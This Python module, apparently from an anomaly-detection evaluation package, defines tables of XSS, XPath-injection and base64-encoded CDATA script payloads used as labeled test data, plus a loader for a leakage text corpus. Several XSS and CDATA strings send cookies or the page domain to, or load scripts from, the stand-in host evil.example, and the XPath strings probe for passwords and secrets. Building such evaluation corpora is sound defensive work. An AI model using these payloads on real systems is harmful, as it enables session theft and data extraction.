"""Bundled attack payload tables and the data-leakage text corpus.

The payload strings are canonical, widely documented test payloads; none of
them is executed by this package, they exist purely as injection material
for building labeled evaluation corpora.
"""

import base64
import re
from importlib import resources

from . import persist

XSS_PAYLOADS = (
    "<script>alert('xss-probe-1')</script>",
    "<script src=\"http://evil.example/hook.js\"></script>",
    "<img src=x onerror=\"alert(document.cookie)\">",
    "<svg/onload=\"fetch('http://evil.example/c?d='+document.domain)\">",
    "<body onload=\"window.location='http://evil.example/phish'\">",
    "<iframe src=\"javascript:alert('xss-probe-2')\"></iframe>",
    "<a href=\"javascript:void(document.forms[0].submit())\">click here</a>",
    "\"><script>new Image().src='http://evil.example/steal?c='+document.cookie;</script>",
)

XPATH_PAYLOADS = (
    "' or //user[position()=1 and starts-with(password,'a')] or '1'='1",
    "admin' or count(//user[translate(role,'ADMIN','admin')='admin'])>0 or 'a'='a",
    "') or substring(//account[1]/secret,1,1)='k' or ('1'='1",
    "' or name(/*[1])='root' or string-length(name(/*[1]))>3 or 'a'='b",
    "x' and count(/child::node()/child::node())>0 and 'x'='x",
    "' and string-length(//user[1]/password)>8 and not(//audit) and '1'='1",
    "*[1] | //user/password | //token/value | *[2]",
    "'] | //*[contains(name(),'secret')] | //*['",
)

_CDATA_SCRIPTS = (
    "var x=new XMLHttpRequest();x.open('GET','http://evil.example/a');x.send();",
    "document.write('<iframe src=http://evil.example/b></iframe>');",
    "eval(atob('YWxlcnQoJ2NkYXRhLXByb2JlJyk='));",
    "window.onload=function(){location.href='http://evil.example/c';};",
)

# four encoded script payloads carried inside CDATA sections
CDATA_PAYLOADS = tuple(
    "<![CDATA[" + base64.b64encode(s.encode("utf-8")).decode("ascii") + "]]>"
    for s in _CDATA_SCRIPTS
)

_SENTENCE_SPLIT = re.compile(r"(?<=[.!?])\s+")


def load_leakage_sentences(path=None):
    """Sentences of the bundled (or user supplied) plain-text corpus."""
    if path is None:
        path = resources.files("xmlad") / "data" / "leakage_corpus.txt"
    flat = " ".join(persist.read_text(path).split())
    return [s for s in _SENTENCE_SPLIT.split(flat) if s]
